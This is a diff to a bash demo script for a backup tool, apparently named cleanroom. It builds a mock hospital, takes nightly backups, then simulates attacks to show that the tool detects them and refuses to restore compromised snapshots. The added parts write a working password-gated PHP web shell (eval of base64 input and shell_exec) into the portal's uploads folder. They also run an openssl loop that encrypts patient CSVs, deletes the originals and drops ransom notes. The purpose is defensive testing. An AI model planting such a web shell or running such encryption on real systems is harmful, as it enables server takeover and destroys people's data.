@@ -1,6 +1,10 @@
 #!/usr/bin/env bash
 # The cleanroom demo: a small "hospital" backed up into a vault, changed,
 # backed up again, checked, and restored — end to end with the real command.
+# Then the patient-record server's web portal is attacked (a web shell on
+# night 3, ransomware on night 5): `cleanroom hunt` finds it, `clean-point`
+# names the restore point to use, `restore` refuses the compromised one
+# (exit code 8) and the clean one comes back.
 #
 #   make demo                      (builds first, then runs this script)
 #   CLEANROOM=build/cleanroom scripts/demo.sh
@@ -48,6 +52,10 @@ mib() { awk -v b="$1" 'BEGIN { printf "%.1f MiB", b / 1048576 }'; }
 
 [ -x "$CLEANROOM" ] || fail "no cleanroom command at $CLEANROOM (run 'make' first)"
 command -v python3 >/dev/null || fail "python3 is needed (scripts/install-deps installs it)"
+command -v openssl >/dev/null || fail "openssl is needed (it plays the ransomware)"
+
+# Five nights of backups, at 02:00 on the five days before today.
+night() { date -d "$(date +%F) 02:00 $((6 - $1)) days ago" +%Y-%m-%dT%H:%M:%S%:z; }
 
 # ------------------------------------------------------------------------
 section "Building the demo hospital in demo/sources (real files from this machine)"
@@ -103,7 +111,23 @@ for i in range(1, 1501):
                 f.write("OBX|%d|NM|%d^LAB||%.1f|mmol/L|||||F\r\n"
                         % (o + 1, rnd.randint(1000, 9999), rnd.uniform(0.5, 12.0)))
 EOF
-note "dpi  (patient records):    /usr/share/doc subset + 1500 patient files (CSV and HL7)"
+# The patient portal of dpi: a small PHP application, and its uploads folder.
+mkdir -p "$SRC/dpi/www/uploads"
+cat >"$SRC/dpi/www/index.php" <<'EOF'
+<?php
+// Patient portal: appointments and lab results of the logged-in patient.
+session_start();
+if (empty($_SESSION['patient'])) {
+    header('Location: /login.php');
+    exit;
+}
+$id = preg_replace('/[^A-Z0-9]/', '', $_SESSION['patient']);
+foreach (glob(__DIR__ . "/../records/*/$id.csv") as $f) {
+    echo '<pre>' . htmlspecialchars(file_get_contents($f)) . '</pre>';
+}
+EOF
+printf '<html><body><h1>Patient portal</h1></body></html>\n' >"$SRC/dpi/www/login.html"
+note "dpi  (patient records):    /usr/share/doc subset + 1500 patient files (CSV and HL7) + a PHP web portal"
 
 # pacs: the imaging archive. Large binary files (shared libraries renamed
 # *.dcm stand in for images), the same study stored twice (deduplicated in
@@ -148,16 +172,15 @@ cr init --kdf interactive || fail "init failed"
 [ -f "$DEMO/vault/config" ] || fail "init did not create demo/vault/config"
 
 # ------------------------------------------------------------------------
-section "Last night's backup (yesterday 02:00) of every system"
-NIGHT=$(date -d 'yesterday 02:00' +%Y-%m-%dT%H:%M:%S%:z)
+section "Night 1: the first backup (02:00, five days ago) of every system"
 t=$(date +%s.%N)
 for s in ad dpi pacs; do
-    cr backup --source "$s" --time "$NIGHT" --tag nightly "$SRC/$s" || fail "backup of $s failed"
+    cr backup --source "$s" --time "$(night 1)" --tag nightly "$SRC/$s" || fail "backup of $s failed"
 done
 note "$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "took %.1f s", b - a }')"
 
 # ------------------------------------------------------------------------
-section "A day at the hospital: things change"
+section "Day 2 at the hospital: things change"
 NEWP="$SRC/dpi/records/emergency/P009999.csv"
 printf 'patient_id,name,birth_date,visit_date,ward,diagnosis,note\nP009999,Ada Lovelace,1985-12-10,2026-11-22,emergency,S72.001A,admitted at 14:02\n' >"$NEWP"
 note "new patient:      dpi/records/emergency/P009999.csv"
@@ -170,10 +193,10 @@ cp -p "$SRC/pacs/studies/ST0002/"IMG*.dcm "$SRC/pacs/volumes/" 2>/dev/null || tr
 note "pacs: a study copied into volumes/ (no new data for the vault: deduplicated)"
 
 # ------------------------------------------------------------------------
-section "Tonight's backup (parent snapshots make it fast: unchanged files are not read)"
+section "Night 2 (parent snapshots make it fast: unchanged files are not read)"
 t=$(date +%s.%N)
 for s in ad dpi pacs; do
-    cr backup --source "$s" --tag nightly "$SRC/$s" || fail "second backup of $s failed"
+    cr backup --source "$s" --time "$(night 2)" --tag nightly "$SRC/$s" || fail "second backup of $s failed"
 done
 note "$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "took %.1f s", b - a }')"
 
@@ -266,11 +289,109 @@ print("   metadata: %(files)d files, %(dirs)d folders, %(symlinks)d symlinks che
 sys.exit(1 if bad else 0)
 EOF
 
+
+# ------------------------------------------------------------------------
+section "Night 3: an attacker uploads a web shell to the dpi portal"
+# What the clean point must give back: the emergency ward as it is now.
+(cd "$SRC/dpi/records/emergency" && sha256sum -- *.csv) >"$DEMO/emergency-night2.sums"
+cat >"$SRC/dpi/www/uploads/scan-0042.php" <<'EOF'
+<?php
+if (isset($_REQUEST['k']) && md5($_REQUEST['k']) === 'e10adc3949ba59abbe56e057f20f883e') {
+    @eval(base64_decode($_POST['x']));
+    echo '<pre>' . shell_exec($_GET['c']) . '</pre>';
+}
+EOF
+note "dropped through the upload form: dpi/www/uploads/scan-0042.php (nobody notices)"
+nightly() {
+    for s in ad dpi pacs; do
+        cr --quiet backup --source "$s" --time "$(night "$1")" --tag nightly "$SRC/$s" ||
+            fail "backup of $s (night $1) failed"
+    done
+}
+nightly 3
+
+section "Night 4: an ordinary day"
+printf 'P009998,Grace Hopper,1906-12-09,%s,cardiology,I10,routine check\n' "$(date +%F)" \
+    >"$SRC/dpi/records/cardiology/P009998.csv"
+note "new patient: dpi/records/cardiology/P009998.csv"
+nightly 4
+
+section "Night 5: ransomware encrypts the emergency ward's records"
+n=$(find "$SRC/dpi/records/emergency" -name '*.csv' | wc -l)
+# One openssl process per file, as many at once as there are cores.
+# shellcheck disable=SC2016 # $f is expanded by the inner sh
+find "$SRC/dpi/records/emergency" -name '*.csv' -print0 | xargs -0 -n 16 -P "$(nproc)" sh -c 'for f; do
+        openssl enc -aes-256-cbc -pbkdf2 -salt -pass pass:demo-ransom -in "$f" -out "$f.lockbit" && rm "$f"
+    done' sh || fail "the ransomware (openssl) failed"
+for d in "$SRC/dpi/records" "$SRC/dpi/records/emergency" "$SRC/dpi/www"; do
+    printf 'YOUR FILES ARE ENCRYPTED. To get them back, pay 4 BTC and write to restore@example.invalid\n' \
+        >"$d/Restore-My-Files.txt"
+done
+note "$n records encrypted with openssl (AES-256) and renamed *.lockbit, ransom notes Restore-My-Files.txt"
+nightly 5
+
+# ------------------------------------------------------------------------
+section "Hunting every restore point for signs of compromise"
+t=$(date +%s.%N)
+cr hunt || fail "hunt failed"
+note "$(awk -v a="$t" -v b="$(date +%s.%N)" 'BEGIN { printf "took %.1f s; run again after each backup it only looks at what changed", b - a }')"
+
+section "What happened on dpi, night by night"
+cr timeline --source dpi || fail "timeline failed"
+
+section "The last clean restore point of dpi"
+cr clean-point --source dpi || fail "clean-point failed"
+"$CLEANROOM" --json clean-point --source dpi >"$DEMO/clean-point.json" || fail "clean-point --json failed"
+read -r CLEAN FIRST_BAD < <(python3 - "$DEMO/clean-point.json" <<'EOF'
+import json, sys
+c = [c for c in json.load(open(sys.argv[1])) if c["source"] == "dpi"][0]
+print((c["clean_snapshot"] or "-")[:8], (c["first_compromised_snapshot"] or "-")[:8])
+EOF
+)
+"$CLEANROOM" snapshots --json >"$DEMO/snapshots.json" || fail "snapshots --json failed"
+read -r NIGHT2 NIGHT3 < <(python3 - "$DEMO/snapshots.json" <<'EOF'
+import json, sys
+dpi = sorted((s for s in json.load(open(sys.argv[1])) if s["source"] == "dpi"), key=lambda s: s["time"])
+print(dpi[1]["short_id"], dpi[2]["short_id"])
+EOF
+)
+[ "$CLEAN" = "$NIGHT2" ] || fail "clean point is $CLEAN, expected night 2's snapshot $NIGHT2"
+[ "$FIRST_BAD" = "$NIGHT3" ] || fail "first compromised is $FIRST_BAD, expected night 3's snapshot $NIGHT3"
+note "clean point $CLEAN = night 2, the last backup before the web shell (night 3, $NIGHT3)"
+
+section "The restore gate: the compromised restore point is refused"
+set +e
+cr restore dpi:latest --target "$DEMO/restore-refused"
+rc=$?
+set -e
+[ "$rc" -eq 8 ] || fail "restore of the compromised dpi:latest gave exit code $rc, expected 8"
+[ ! -e "$DEMO/restore-refused" ] || [ -z "$(ls -A "$DEMO/restore-refused")" ] ||
+    fail "the refused restore wrote files"
+note "exit code 8, as expected: refused, nothing restored (--accept-risk would override it)"
+
+section "Restoring the clean point $CLEAN into demo/restore-clean"
+cr --quiet restore "$CLEAN" --target "$DEMO/restore-clean" || fail "restore of the clean point failed"
+GOT=$DEMO/restore-clean$SRC/dpi
+[ -d "$GOT/records/emergency" ] || fail "restored dpi folder not found at ${GOT#"$ROOT/"}"
+(cd "$GOT/records/emergency" && sha256sum --quiet -c "$DEMO/emergency-night2.sums") ||
+    fail "the emergency records of the clean point differ from those of night 2"
+[ ! -e "$GOT/www/uploads/scan-0042.php" ] || fail "the clean point holds the web shell"
+[ -z "$(find "$GOT" -name '*.lockbit' -o -name 'Restore-My-Files.txt')" ] ||
+    fail "the clean point holds encrypted files or ransom notes"
+note "$(wc -l <"$DEMO/emergency-night2.sums") emergency records back, identical to night 2; no web shell, nothing encrypted"
+
 # ------------------------------------------------------------------------
 section "What the vault costs on disk"
+"$CLEANROOM" snapshots --json >"$DEMO/snapshots.json" || fail "snapshots --json failed"
+read -r NSNAP PROTECTED < <(python3 - "$DEMO/snapshots.json" <<'EOF'
+import json, sys
+snaps = json.load(open(sys.argv[1]))
+print(len(snaps), sum(int(s.get("bytes", 0)) for s in snaps))
+EOF
+)
 VAULT_BYTES=$(du -sb "$DEMO/vault" | cut -f1)
 note "source data today:        $(mib "$SRC_BYTES") ($(mib "$SRC_ALLOC") on disk: the sparse volume is mostly holes)"
-note "protected by 6 snapshots: $(mib "$PROTECTED") (the sizes of all snapshots added up)"
+note "protected by $NSNAP snapshots: $(mib "$PROTECTED") (the sizes of all snapshots added up)"
 note "vault size:               $(mib "$VAULT_BYTES")"
 note "$(awk -v p="$PROTECTED" -v s="$SRC_ALLOC" -v v="$VAULT_BYTES" 'BEGIN {
     printf "dedup + compression: the vault is %.1fx smaller than the data it protects,", p / v
